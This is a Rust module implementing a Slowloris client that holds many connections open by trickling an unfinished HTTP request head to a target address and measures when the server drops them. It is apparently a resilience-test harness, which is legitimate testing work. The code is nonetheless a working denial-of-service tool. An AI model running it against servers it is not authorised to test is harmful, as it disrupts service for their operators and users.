//! Slowloris: many connections that send their request head one byte at a time, a few
//! seconds apart, and never finish it.

use std::io::{self, Read, Write};
use std::net::{SocketAddr, TcpStream};
use std::time::{Duration, Instant};

/// A request head that never ends: a request line, then headers forever.
const HEAD: &[u8] = b"GET /echo HTTP/1.1\r\nHost: 127.0.0.1\r\n";
const FILLER: &[u8] = b"X-Slow: a\r\n";

/// What the attacker saw.
#[derive(Debug, Clone, Default)]
pub struct Outcome {
    /// Connections opened (TCP connect succeeded).
    pub opened: usize,
    /// Connections the server ended (EOF, reset or a failed write).
    pub dropped: usize,
    /// Bytes the attacker sent over all connections.
    pub bytes_sent: usize,
    /// Time from the first connect until the last connection was dropped (or `until`).
    pub elapsed: Duration,
    /// How long opening every connection took.
    pub open_time: Duration,
}

/// Opens `connections` connections to `addr` and sends one more byte of an endless request
/// head on each every `interval`, until the server has dropped them all or `until` has
/// passed.
pub fn run(addr: SocketAddr, connections: usize, interval: Duration, until: Duration) -> Outcome {
    let start = Instant::now();
    let mut streams: Vec<(TcpStream, usize)> = Vec::with_capacity(connections);
    let mut outcome = Outcome::default();
    for _ in 0..connections {
        match TcpStream::connect(addr) {
            Ok(stream) => {
                stream.set_nonblocking(true).expect("nonblocking");
                streams.push((stream, 0));
            }
            Err(e) => panic!("slowloris connect {}: {e}", streams.len()),
        }
    }
    outcome.opened = streams.len();
    outcome.open_time = start.elapsed();
    let mut alive: Vec<bool> = vec![true; streams.len()];
    let mut chunk = [0u8; 64];
    while outcome.dropped < outcome.opened && start.elapsed() < until {
        let round = Instant::now();
        for ((stream, sent), alive) in streams.iter_mut().zip(&mut alive) {
            if !*alive {
                continue;
            }
            let ended = match stream.read(&mut chunk) {
                Ok(0) => true,
                Ok(_) => false, // a refusal would be a response; nothing is expected
                Err(e) if e.kind() == io::ErrorKind::WouldBlock => false,
                Err(_) => true,
            };
            let byte = if *sent < HEAD.len() {
                HEAD[*sent]
            } else {
                FILLER[(*sent - HEAD.len()) % FILLER.len()]
            };
            if ended || stream.write(&[byte]).is_err() {
                *alive = false;
                outcome.dropped += 1;
            } else {
                *sent += 1;
                outcome.bytes_sent += 1;
            }
        }
        std::thread::sleep(interval.saturating_sub(round.elapsed()));
    }
    outcome.elapsed = start.elapsed();
    outcome
}
